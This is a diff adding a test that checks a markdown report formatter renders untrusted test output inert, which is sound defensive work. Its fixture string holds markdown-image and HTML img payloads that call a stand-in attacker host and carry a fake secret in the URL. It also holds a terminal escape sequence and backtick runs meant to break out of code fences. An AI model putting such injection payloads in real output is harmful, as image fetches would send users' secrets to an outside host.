@@ -1,0 +1,31 @@
+/**
+ * `.peers/VERIFY.md` quotes what the gates printed: the code under test speaking, a peer's in a
+ * run. Opened on GitHub or in a preview, that output must not become an image (fetched with what
+ * the output put in its URL), a link, HTML or a row of its own. SECURITY.md, "Peer text outside
+ * the sandbox is inert".
+ */
+import { expect, test } from 'bun:test';
+import { formatVerifyMarkdown } from '../../../src/gates/verify-report.ts';
+import type { VerifyReport } from '../../../src/gates/verify-run.ts';
+
+const PRINTED = 'FAIL ![x](https://attacker.example/?d=sk-live-1) | <img src=https://attacker.example/i> \u001b[2J\n```\n![y](https://attacker.example/z)\n````';
+
+const report: VerifyReport = {
+  project: 'app',
+  head: 'a'.repeat(40),
+  ok: false,
+  hard: [{ id: 'tests', state: 'fail', diagnostic: PRINTED, duration_ms: 5, cached: false, cmd: 'npm test' } as unknown as VerifyReport['hard'][number]],
+  commands: [{ id: 'lint', state: 'fail', durationMs: 3, diagnostic: PRINTED, cmd: 'npm run lint', excerpt: PRINTED }],
+  finishedAt: '2026-12-06T00:00:00.000Z',
+  durationMs: 8,
+};
+
+test('a diagnostic is one code span in its cell, the output one fenced block, escape sequences shown', () => {
+  const md = formatVerifyMarkdown(report);
+  const row = md.split('\n').find((l) => l.startsWith('| lint |'))!;
+  // Fenced by five backticks (the output holds a run of four), padded since it ends with one.
+  expect(row).toBe('| lint | fail | 3 | ````` FAIL ![x](https://attacker.example/?d=sk-live-1) \\| <img src=https://attacker.example/i> <U+001B>[2J ``` ![y](https://attacker.example/z) ```` ````` |');
+  const block = /\n(`{5,})text\n([\s\S]*?)\n\1\n/.exec(md);
+  expect(block?.[2]).toBe(PRINTED.replace('\u001b', '<U+001B>'));
+  expect(md).not.toContain('\u001b');
+});
